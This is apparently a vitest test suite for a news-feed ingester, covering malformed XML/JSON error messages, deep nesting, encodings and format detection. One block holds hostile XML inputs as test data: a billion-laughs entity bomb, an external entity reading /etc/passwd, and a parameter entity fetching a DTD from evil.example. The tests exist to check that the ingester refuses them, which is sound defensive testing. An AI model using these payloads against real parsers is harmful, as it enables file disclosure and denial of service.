import { describe, expect, it } from "vitest";
import { ingestAll } from "../../src/ingest/index.js";
import { ingest } from "../../src/ingest/ingest.js";

const bytesOf = (text: string) => new TextEncoder().encode(text);
const faultsOf = async (name: string, text: string | Uint8Array) => {
  const { articles, faults } = await ingest(name, typeof text === "string" ? bytesOf(text) : text);
  expect(articles).toEqual([]);
  return faults.map(({ code, message }) => `${code}: ${message}`);
};
const RSS = (items: string) =>
  `<?xml version="1.0"?>\n<rss version="2.0"><channel><title>F</title>${items}</channel></rss>`;
const ITEM = "<item><title>T</title><description>The ferry sank.</description></item>";

describe("broken containers say what and where", () => {
  it.each([
    [
      "XML with a wrong end",
      "a.xml",
      "<rss>\n  <channel></chanel></rss>",
      /^bad-xml: a\.xml: this is no XML on line 2, column 12: .*channel/,
    ],
    [
      "XML that is cut off",
      "a.xml",
      RSS(ITEM).slice(0, 90),
      /^bad-xml: a\.xml: this is no XML: the file ends where these elements are not closed: .*cut off\?/,
    ],
    [
      "a bare &",
      "a.rss",
      RSS(ITEM.replace("ferry", "ferry & tug")),
      /^bad-xml: a\.rss: this is no XML on line 2, column \d+: .*Write & as &amp;\./,
    ],
    [
      "prose called XML",
      "a.xml",
      "The ferry sank.",
      /^bad-xml: a\.xml: this is no XML on line 1.* XML begins with a tag/,
    ],
    ["an empty file called XML", "a.xml", "", /^empty-text: a\.xml is empty\. Write/],
    ["XML of another kind", "a.xml", "<svg><g/></svg>", /^unknown-xml: a\.xml: <svg> is no news format/],
    ["a feed without items", "a.xml", RSS(""), /^empty-feed: a\.xml: this feed has no items/],
    [
      "an Atom feed without entries",
      "a.xml",
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title></feed>',
      /^empty-feed/,
    ],
    [
      "a JSON Feed without items",
      "a.json",
      '{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[]}',
      /^empty-feed: a\.json/,
    ],
    [
      "a NewsML message without items",
      "a.xml",
      "<newsMessage><header/></newsMessage>",
      /^no-text: a\.xml: there is no newsItem/,
    ],
    [
      "an item of ninjs without text",
      "a.json",
      '{"uri":"urn:x:1","type":"picture","versioncreated":"2026-03-03T10:37:00Z"}',
      /^no-text: a\.json: this item has no text/,
    ],
    [
      "JSON-LD without a body",
      "a.json",
      '{"@context":"https://schema.org","@type":"NewsArticle","headline":"x"}',
      /^no-text: a\.json: .*articleBody/,
    ],
    [
      "JSON that is cut off",
      "a.json",
      '{"source":"A",\n"text":"The fer',
      /^bad-json: a\.json: this is no JSON: the string that begins at line 2, column 8 has no end/,
    ],
    [
      "JSON that ends too early",
      "a.json",
      '[{"source":"A"},\n',
      /^bad-json: a\.json: this is no JSON: it ends at line 2, column 1, before it is complete/,
    ],
    [
      "JSON with a comma too many",
      "a.json",
      '{"source":"A",\n  "text":"x",}',
      /^bad-json: a\.json: this is no JSON: a comma stands before the "}" at line 2, column 14\. Take/,
    ],
    [
      "JSON in single quotes",
      "a.json",
      "{'source':'A'}",
      /^bad-json: a\.json: this is no JSON: line 1, column 2 has "'source':'A'/,
    ],
    ["an empty file called JSON", "a.json", " \n", /^empty-text: a\.json is empty/],
  ])("%s", async (_, name, text, message) => {
    const faults = await faultsOf(name, text);
    expect(faults).toHaveLength(1);
    expect(faults[0]).toMatch(message);
  });

  it("and deep nesting breaks nothing", async () => {
    expect(await faultsOf("a.json", "[".repeat(200_000))).toHaveLength(1);
    const lists = "[".repeat(100_000) + "]".repeat(100_000);
    expect((await ingestAll([{ name: "a.json", data: `{"text":${lists}}` }])).faults).toHaveLength(1);
    expect(await faultsOf("a.json", `{"@type":"NewsArticle","author":${lists}}`)).toHaveLength(1);
    const xml = `${"<a>".repeat(50_000)}x${"</a>".repeat(50_000)}`;
    expect(await faultsOf("a.xml", xml)).toHaveLength(1);
  });

  it("and so does an item in an item in an item: what is further in is told, and the rest is read", async () => {
    const item = (i: number | string) =>
      `"uri":"urn:x:${i}","versioncreated":"2026-03-03T10:37:00Z","body_text":"It sank."`;
    let nested = `{${item("last")}}`;
    for (let i = 0; i < 8000; i++) nested = `{${item(i)},"associations":[${nested}]}`;
    const { articles, faults } = await ingestAll([
      { name: "a.json", data: nested },
      { name: "b.txt", data: "It rained." },
    ]);
    expect(faults.map(({ code, message }) => [code, message])).toEqual([
      [
        "too-deep",
        expect.stringMatching(
          /^a\.json(?:, item 1){21}: items stand in items more than 20 deep; those further in were not read\.$/,
        ),
      ],
    ]);
    expect(articles).toHaveLength(22);
    expect(articles.at(-1)?.text).toBe("It rained.");
  });

  it("one item that is none stops no other", async () => {
    const { articles, notices } = await ingest("a.xml", bytesOf(RSS(`${ITEM}<item><title>Bare</title></item>${ITEM}`)));
    expect(articles.map(({ file }) => file)).toEqual(["a.xml, item 1", "a.xml, item 3"]);
    expect(notices.map(({ text }) => text)).toEqual(["a.xml, item 2 (“Bare”) has no text; it was passed over."]);
  });
});

describe("XML with entities of its own", () => {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join("\n");
  it.each([
    ["a billion laughs", `<!DOCTYPE rss [<!ENTITY lol0 "lol">\n${laughs}]>`, "&lol9;"],
    ["another file", '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]>', "&f;"],
    [
      "another file by way of a parameter",
      '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>',
      "x",
    ],
    ["quoted brackets", '<!DOCTYPE rss [<!ENTITY a "]>">]>', "&a;"],
    ["a document type that is never closed", '<!DOCTYPE rss [<!ENTITY a "', "&a;"],
  ])("is refused: %s", async (_, doctype, use) => {
    const xml = RSS(ITEM.replace("ferry", use)).replace("\n", `\n${doctype}\n`);
    const faults = await faultsOf("a.xml", xml);
    expect(faults).toEqual([expect.stringMatching(/^xml-entities: a\.xml: line 2 declares entities of its own/)]);
  });

  it("is read where the document type declares none, and no such entity is made up", async () => {
    const doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "https://rss.example/rss-0.91.dtd">';
    const xml = RSS(ITEM.replace("ferry", "&x; caf&eacute; &#x1F600; &amp;amp;")).replace("\n", `\n${doctype}\n`);
    const { articles, faults } = await ingest("a.xml", bytesOf(xml));
    expect(faults).toEqual([]);
    expect(articles[0]?.text).toBe("The &x; café 😀 &amp; sank.");
  });
});

describe("a document type", () => {
  it.each([
    ["with a comment with an apostrophe", "<!DOCTYPE rss [ <!-- don't --> <!ELEMENT a (b)> ]>"],
    ["with a comment with an end in it", "<!DOCTYPE rss [ <!-- ]> --> ]>"],
    ["with an instruction", "<!DOCTYPE rss [ <?x it's ]> ?> ]>"],
    ["with quoted marks", `<!DOCTYPE rss PUBLIC "a > [" 'b ">' [ <!ATTLIST a b CDATA "]>"> ] >`],
  ])("%s is passed over", async (_, doctype) => {
    const { articles, faults } = await ingest("a.xml", bytesOf(RSS(ITEM).replace("\n", `\n${doctype}\n`)));
    expect(faults).toEqual([]);
    expect(articles).toHaveLength(1);
  });
});

describe("front matter", () => {
  it("of more than a page of a site's own fields is refused, and nested too deeply too", async () => {
    const keys = Array.from({ length: 20_000 }, (_, i) => `key${i}: 1\n`).join("");
    expect(await faultsOf("a.md", `---\n${keys}---\nIt sank.`)).toEqual([
      "too-long: a.md: its front matter, down to line 20002, is longer than 64,000 letters. Shorten it, or take away the --- on line 1 if it is none.",
    ]);
    expect(await faultsOf("a.md", `---\nsource: ${"[".repeat(60_000)}\n---\nIt sank.`)).toEqual([
      "bad-yaml: a.md: this is no YAML on line 2: it is nested too deeply. Mend it and run again.",
    ]);
  });
});

describe("bytes", () => {
  const latin = (text: string) => Uint8Array.from(text, (letter) => letter.charCodeAt(0));
  const utf16 = (text: string, big: boolean, mark: boolean) => {
    const codes = [...(mark ? "\ufeff" : ""), ...text].flatMap((letter) => {
      const code = letter.charCodeAt(0);
      return big ? [code >> 8, code & 255] : [code & 255, code >> 8];
    });
    return Uint8Array.from(codes);
  };
  const CAFE = RSS(ITEM.replace("ferry", "caf\u00e9 \u0096 bar"));
  const declared = CAFE.replace('version="1.0"', 'version="1.0" encoding="windows-1252"');

  it.each([
    ["Windows-1252 as the prolog says", latin(declared), "The café – bar sank.", []],
    ["Windows-1252 that nobody told", latin(CAFE), "The café – bar sank.", ["not-utf-8"]],
    ["UTF-8 whatever the prolog says", bytesOf(declared.replace("\u0096", "–")), "The café – bar sank.", []],
    ["UTF-8 with a mark", bytesOf(`\ufeff${CAFE.replace("\u0096", "–")}`), "The café – bar sank.", []],
    ["UTF-16 with a mark", utf16(CAFE.replace("\u0096", "–"), false, true), "The café – bar sank.", []],
    ["UTF-16, big end first, without", utf16(CAFE.replace("\u0096", "–"), true, false), "The café – bar sank.", []],
    [
      "an encoding that there is none of",
      latin(declared.replace("windows-1252", "windows-9")),
      "The café – bar sank.",
      ["not-utf-8"],
    ],
  ])("may be %s", async (_, bytes, text, codes) => {
    const { articles, notices, faults } = await ingest("a.xml", bytes);
    expect(faults).toEqual([]);
    expect(articles[0]?.text).toBe(text);
    expect(notices.map(({ code }) => code)).toEqual(codes);
  });

  it("of a page may be in an encoding that its head names", async () => {
    const html =
      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head><body><p>The mayor of \u00a3\u00f3d\u00bc opened the bridge at last, they said.</p></body></html>';
    const { articles } = await ingest("a.html", latin(html));
    expect(articles[0]?.text).toContain("Łódź");
  });
});

describe("NDJSON", () => {
  it("tells a line that passes on an error, and one that is broken, and reads the rest", async () => {
    const lines = [
      '{"source":"A","text":"It sank."}',
      '{"type":"error","message":"feed B timed out"}',
      '{"source":"A","text":',
      '{"uri":"urn:x:1","type":"text","versioncreated":"2026-03-03T10:37:00Z","body_text":"It rained."}',
    ].join("\r\n");
    const { articles, faults } = await ingest("a.ndjson", bytesOf(lines));
    expect(articles.map(({ text, file }) => [text, file])).toEqual([
      ["It sank.", "a.ndjson:1"],
      ["It rained.", "a.ndjson:4"],
    ]);
    expect(faults.map(({ message }) => message)).toEqual([
      "a.ndjson, line 2: what wrote this line met an error: feed B timed out",
      "a.ndjson, line 3: this is no JSON: it ends at column 22, before it is complete. Was the file cut off?",
    ]);
  });
});

describe("what a file is", () => {
  const formatOf = async (name: string, text: string, format?: "text" | "html" | "rss" | "markdown" | "ninjs") =>
    (await ingest(name, bytesOf(text), { format })).articles.map((article) => [article.format, article.file]);

  it("is told by content where the name says nothing", async () => {
    expect(await formatOf("-", RSS(ITEM))).toEqual([["text", "-, item 1"]]);
    expect(await formatOf("download", `<!-- x -->\n${RSS(ITEM).slice(22)}`)).toEqual([["text", "download, item 1"]]);
    expect(
      await formatOf(
        "-",
        "<!doctype html><html><body><p>The ferry Aurora ran aground off the coast.</p></body></html>",
      ),
    ).toEqual([["html", "-"]]);
    expect(
      await formatOf(
        "a.xml",
        '<?xml version="1.0"?><!DOCTYPE html><html><body><p>The ferry Aurora ran aground off the coast.</p></body></html>',
      ),
    ).toEqual([["html", "a.xml"]]);
    expect(await formatOf("-", '{"uri":"urn:x:1","body_text":"It rained."}')).toEqual([["text", "-"]]);
    expect(await formatOf("-", "The <b>ferry</b> sank.")).toEqual([[undefined, "-"]]);
  });

  it("is told by content in a .txt too, and a .json of several lines is one value a line", async () => {
    expect(await formatOf("feed.txt", RSS(ITEM))).toEqual([["text", "feed.txt, item 1"]]);
    expect(await formatOf("page.txt", "<html><body><p>The ferry Aurora ran aground.</p></body></html>")).toEqual([
      ["html", "page.txt"],
    ]);
    expect(await formatOf("a.txt", "<3 is how it began.")).toEqual([[undefined, "a.txt"]]);
    expect(await formatOf("a.txt", '[The mayor] said {"no"}.')).toEqual([[undefined, "a.txt"]]);
    const line = '{"source":"A","text":"It sank."}';
    expect(await formatOf("feed.json", `${line}\n${line}\n`)).toEqual([
      [undefined, "feed.json:1"],
      [undefined, "feed.json:2"],
    ]);
    // A list that is cut off is no such file, though a line of it is whole.
    expect(await faultsOf("feed.json", `[\n${line}\n`)).toEqual([
      expect.stringMatching(/^bad-json: feed\.json: this is no JSON: it ends at line 3/),
    ]);
  });

  it("may be said", async () => {
    expect(await formatOf("a.json", "{ is how it began.", "text")).toEqual([["text", "a.json"]]);
    expect(await formatOf("a.txt", RSS(ITEM), "rss")).toEqual([["text", "a.txt, item 1"]]);
    expect(await formatOf("a.txt", "# It sank", "markdown")).toEqual([["markdown", "a.txt"]]);
    expect(await formatOf("a.txt", "<p>It sank.</p>", "html")).toEqual([["html", "a.txt"]]);
  });
});
